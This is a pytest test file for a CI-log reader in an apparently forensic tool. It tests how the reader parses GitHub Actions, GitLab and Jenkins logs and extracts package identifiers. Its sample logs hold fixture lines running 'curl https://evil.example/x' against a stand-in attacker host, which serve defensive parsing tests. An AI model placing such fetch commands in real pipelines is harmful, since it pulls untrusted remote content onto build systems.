"""Logs of CI runs."""

from __future__ import annotations

import time

import pytest
from tests.evidence.packages_contract import purls
from tests.evidence.reader_contract import holds_with_and_without_sieve, survives_anything
from tests.evidence_kit import PLANT, read_bytes

from nachsorge.evidence.identify import reader_for
from nachsorge.evidence.readers.ci_log import CiLog
from nachsorge.model.times import parse_instant
from nachsorge.model.words import Reason, Telemetry

COMMIT = "0e58ed8671d6b60d0890c21b07f8835ace038e67"
BODY = f"""\ufeff2025-03-14T12:00:00.1234567Z Current runner version: '2.322.0'
2025-03-14T12:00:01.0000000Z Download action repository 'actions/checkout@v4' (SHA:{"11bd7" * 8})
2025-03-14T12:00:02.0000000Z Download action repository 'tj-actions/changed-files@v44' (SHA:{COMMIT})
2025-03-14T12:00:03.0000000Z Pull down action image 'alpine:3.20'
2025-03-14T12:00:04.0000000Z ##[group]Run curl https://evil.example/x
2025-03-14T12:00:05.0000000Z
the rest of a message
2025-03-14T12:10:00.0000000Z Cleaning up orphan processes
""".encode()
WANTED = {
    "pkg:githubactions/actions/checkout@v4",
    "pkg:githubactions/actions/checkout@" + "11bd7" * 8,
    "pkg:githubactions/tj-actions/changed-files@v44",
    f"pkg:githubactions/tj-actions/changed-files@{COMMIT}",
    "pkg:docker/alpine@3.20",
}


def test_a_run():
    assert reader_for(BODY, "1_build.txt").name == "ci_log"
    records, ledger = read_bytes(CiLog(), BODY, name="logs/1_build.txt")
    assert purls(records) == WANTED
    assert {record.telemetry for record in records} == {Telemetry.CI_LOG}
    assert (len(records), ledger.records, ledger.unreadable, ledger.host) == (8, 8, 0, "logs/")
    assert ledger.first == parse_instant("2025-03-14T12:00:00.123456Z")
    assert ledger.last == parse_instant("2025-03-14T12:10:00Z")


def test_what_the_command_line_tool_gives():
    body = b"".join(b"build\tUNKNOWN STEP\t" + line + b"\n" for line in BODY.split(b"\n")[1:5])
    assert reader_for(body, "run.log").name == "ci_log"
    assert purls(read_bytes(CiLog(), body)[0]) == WANTED


DIGEST = "sha256:" + "ab" * 32
GITLAB = f"""2024-05-24T08:15:37.123456Z 00O \x1b[0KRunning with gitlab-runner 17.0.0 (44feccdf)\x1b[0;m
2024-05-24T08:15:38.000000Z 00O Using Docker executor with image evil/tool:1.0 ...
2024-05-24T08:15:39.000000Z 00O Using docker image sha256:0a for evil/tool:1.0 with digest evil/tool@{DIGEST} ...
2024-05-24T08:15:40.000000Z 01O \x1b[36;1mevil.example\x1b[0m answered
2024-05-24T08:15:41.000000Z 01E+and went on
""".encode()
OLD_GITLAB = f"""\x1b[0KRunning with gitlab-runner 16.0.0 (abc)\x1b[0;m
\x1b[0K  on runner abc\x1b[0;m
section_start:1680084000:prepare_executor\r\x1b[0K\x1b[0K\x1b[36;1mPreparing the "docker" executor\x1b[0;m
\x1b[0KUsing docker image sha256:0a for evil/tool:1.0 with digest evil/tool@{DIGEST} ...\x1b[0;m
section_end:1680084120:prepare_executor\r\x1b[0K
$ npm ci
$ curl https://evil.example/x
""".encode()
JENKINS = b"""Started by user \x1b[8mha:////4AAA==\x1b[0madmin
[Pipeline] Start of Pipeline
[Pipeline] node
Running on Jenkins in /var/lib/jenkins/workspace/x
+ curl https://evil.example/x
Finished: SUCCESS
"""
STAMPED = b"".join(b"[2023-03-29T10:00:0%d.000Z] " % at + line + b"\n" for at, line in enumerate(JENKINS.splitlines()))
IMAGES = {"pkg:docker/evil/tool@1.0", "pkg:docker/evil/tool@" + DIGEST.replace(":", "%3A")}


def test_a_job_of_gitlab_and_its_image():
    assert reader_for(GITLAB, "job.log").name == "ci_log"
    records, ledger = read_bytes(CiLog(), GITLAB, name="logs/job.log")
    assert {purl.replace("sha256:", "sha256%3A") for purl in purls(records)} == IMAGES
    assert records[3].event["message"] == "evil.example answered"
    assert (ledger.first, ledger.last) == (
        parse_instant("2024-05-24T08:15:37.123456Z"),
        parse_instant("2024-05-24T08:15:41Z"),
    )


def test_an_older_job_of_gitlab_has_times_where_its_sections_begin_and_end():
    assert reader_for(OLD_GITLAB, "job.log").name == "ci_log"
    records, ledger = read_bytes(CiLog(), OLD_GITLAB)
    assert [record.time is None for record in records] == [True, True, False, True, False, True, True]
    assert records[2].event["message"] == 'prepare_executor Preparing the "docker" executor'
    assert (ledger.first, ledger.last) == (parse_instant("2023-03-29T10:00:00Z"), parse_instant("2023-03-29T10:02:00Z"))


def test_a_console_of_jenkins_has_times_only_with_its_plugin():
    for body in (JENKINS, STAMPED):
        assert reader_for(body, "consoleText").name == "ci_log"
        records, ledger = read_bytes(CiLog(), body)
        assert records[0].event["message"] == "Started by user admin"
        assert any("evil.example" in record.event["message"] for record in records)
        assert any(seen.spans for seen in ledger.seen()) == (body is STAMPED)
    assert read_bytes(CiLog(), STAMPED)[1].last == parse_instant("2023-03-29T10:00:05Z")
    assert any(gap.reason is Reason.NO_TIME for gap in read_bytes(CiLog(), JENKINS)[1].gaps)


@pytest.mark.parametrize("body", [GITLAB, OLD_GITLAB, JENKINS, STAMPED])
def test_the_contract_of_the_others(body):
    holds_with_and_without_sieve(CiLog(), body, b"evil.example")
    survives_anything(CiLog(), body)
    planted = CiLog().plant(body, PLANT)
    assert reader_for(planted or b"", "").name == "ci_log"
    records, _ = read_bytes(CiLog(), planted or b"")
    assert PLANT.host in records[-1].event["message"]


@pytest.mark.parametrize(
    ("message", "wanted"),
    [
        ("Successfully installed Evil_Package-1.0.0 typing-extensions-4.8.0", {"pypi/evil-package@1.0.0"}),
        ("Collecting evil_package[x]==1.0.0", {"pypi/evil-package@1.0.0"}),
        ("npm http fetch GET 200 https://r.example/chalk/-/chalk-5.6.1.tgz 32ms (cache miss)", {"npm/chalk@5.6.1"}),
        (
            "npm http fetch GET 200 https://r.example/@ctrl%2ftinycolor/-/tinycolor-4.1.2.tgz",
            {"npm/%40ctrl/tinycolor@4.1.2"},
        ),
        ("├── @ctrl/tinycolor@4.1.2", {"npm/%40ctrl/tinycolor@4.1.2"}),
        ("└─┬ a@1.0.0 deduped", {"npm/a@1.0.0"}),
        ("+ chalk@5.6.1", {"npm/chalk@5.6.1"}),
        ("➤ YN0013: │ chalk@npm:5.6.1 can't be found in the cache", {"npm/chalk@5.6.1"}),
        ("   Compiling evil v0.1.2 (/x)", {"cargo/evil@0.1.2"}),
        ("  Downloaded evil v0.1.2", {"cargo/evil@0.1.2"}),
    ],
)
def test_packages_that_package_managers_name(message, wanted):
    body = f"2025-03-14T12:00:00.1234567Z {message}\n".encode() * 2
    (record, _), _ = read_bytes(CiLog(), body)
    assert {"pkg:" + one for one in wanted} <= purls([record])


@pytest.mark.parametrize(
    "message", ["mail to a@1.0.0.example", "actions/checkout@v4", "postgres@5", "user@10.0.0.5:22", "chalk@^5.6.1"]
)
def test_other_words_are_no_packages(message):
    body = f"2025-03-14T12:00:00.1234567Z {message}\n".encode() * 2
    (record, _), _ = read_bytes(CiLog(), body)
    assert not purls([record])


def test_long_lines_of_anything_cost_no_more_than_their_length():
    body = b"2025-03-14T12:00:00.1234567Z " + b"a-b|" * 250_000 + b"\n"
    began = time.process_time()
    read_bytes(CiLog(), body)
    assert time.process_time() - began < 20


def test_a_name_that_pip_spells_otherwise_is_never_sieved_out():
    body = b"2025-03-14T12:00:00.1234567Z Successfully installed Evil_Package-1.0.0\n" * 2
    assert len(read_bytes(CiLog(), body, b"evil-package")[0]) == 2


def test_colours_of_a_terminal_hide_no_word():
    body = b"2025-03-14T12:00:00.1234567Z \x1b[36;1mchalk\x1b[22m@5.6.1\x1b[0m\n" * 2
    (first, _), _ = read_bytes(CiLog(), body, b"no such literal")
    assert first.event["message"] == "chalk@5.6.1"


def test_the_contract():
    holds_with_and_without_sieve(CiLog(), BODY, b"changed-files")
    survives_anything(CiLog(), BODY)
    for head in (b"", BODY, b"build\tstep\t2025-03-14T12:00:01.0000000Z x\n"):
        planted = CiLog().plant(head, PLANT)
        assert reader_for(planted or b"", "").name == "ci_log"
        (record,), _ = read_bytes(CiLog(), planted or b"")
        assert PLANT.host in record.event["message"]


def test_other_logs_are_left_alone():
    assert CiLog().accepts(b"2025-03-14T12:00:00.123456Z host app[1]: x\n", "x.log") == 0
